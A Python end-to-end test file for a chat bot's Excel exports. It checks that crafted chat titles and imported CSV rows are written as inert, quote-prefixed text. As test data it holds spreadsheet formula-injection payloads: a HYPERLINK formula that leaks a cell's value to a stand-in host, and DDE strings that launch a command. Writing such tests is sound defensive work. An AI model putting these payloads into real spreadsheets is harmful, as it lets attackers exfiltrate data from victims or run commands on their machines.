"""Formula injection: a crafted chat title (or any other text people supply) must reach every
workbook the bot writes as inert text — read back here with openpyxl as the victim's
spreadsheet would open it."""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl

from tests.e2e.steps import create_chat
from tests.harness import Message, Person, Stack
from tests.test_chat_import import HEADER, csv_bytes

EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&I2,"Ленина 9")'
EVIL = [
    EVIL_TITLE,
    "+HYPERLINK(\"http://evil.example\")",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]
ROOT = Path(__file__).resolve().parents[2]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP: what a spreadsheet reads as a formula


async def workbook(stack: Stack, message: Message) -> openpyxl.Workbook:
    (attachment,) = [a for a in message.attachments if a.get("ext") == "xlsx"]
    async with stack.http.get(attachment["url"]) as response:
        return openpyxl.load_workbook(io.BytesIO(await response.read()))


def assert_inert(book: openpyxl.Workbook) -> list[str]:
    """No formula anywhere, no text that a spreadsheet would take for one; the texts."""
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


async def test_a_crafted_title_is_text_in_every_workbook(stack: Stack, staff: Person) -> None:
    await create_chat(staff, EVIL_TITLE, kind="Дом")
    await staff.press("Список чатов")
    (export,) = await staff.press("Выгрузить в Excel")
    chats = await workbook(stack, export)
    assert f"'{EVIL_TITLE}" in assert_inert(chats)  # the title, kept and neutralised
    (title,) = [c for c in chats.active["A"] if c.value == f"'{EVIL_TITLE}"]
    assert title.data_type == "s" and title.quotePrefix

    await staff.press("Меню")
    await staff.press("Статистика")
    (stats,) = await staff.press("Выгрузить статистику")
    assert f"'{EVIL_TITLE}" in assert_inert(await workbook(stack, stats))

    (intro,) = await staff.press("Чаты из файла")
    assert_inert(await workbook(stack, intro))  # the template
    bad = [[title, "12345", "Дом", "", "", "", ""] for title in EVIL]
    bad += [[f"{EVIL_TITLE} {i}", "12345", "Дом", "", "", "", ""] for i in range(12)]
    (preview,) = await staff.upload("чаты.csv", csv_bytes([HEADER, *bad]))
    report = assert_inert(await workbook(stack, preview))  # «Ошибки в файле.xlsx»
    assert {f"'{text}" for text in EVIL} <= set(report)


def test_every_workbook_is_written_by_the_one_writer() -> None:
    """openpyxl is written to in bot/services/core/sheets.py only: a new export cannot bypass it."""
    writers = re.compile(r"\bWorkbook\(|WriteOnlyCell\(|\.append\(\s*\[|\.cell\(\s*\d|\.cell\(\s*row")
    offenders = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "bot").rglob("*.py")
        if path.name != "sheets.py" and writers.search(path.read_text(encoding="utf-8"))
        and "openpyxl" in path.read_text(encoding="utf-8")
    ]
    assert offenders == []
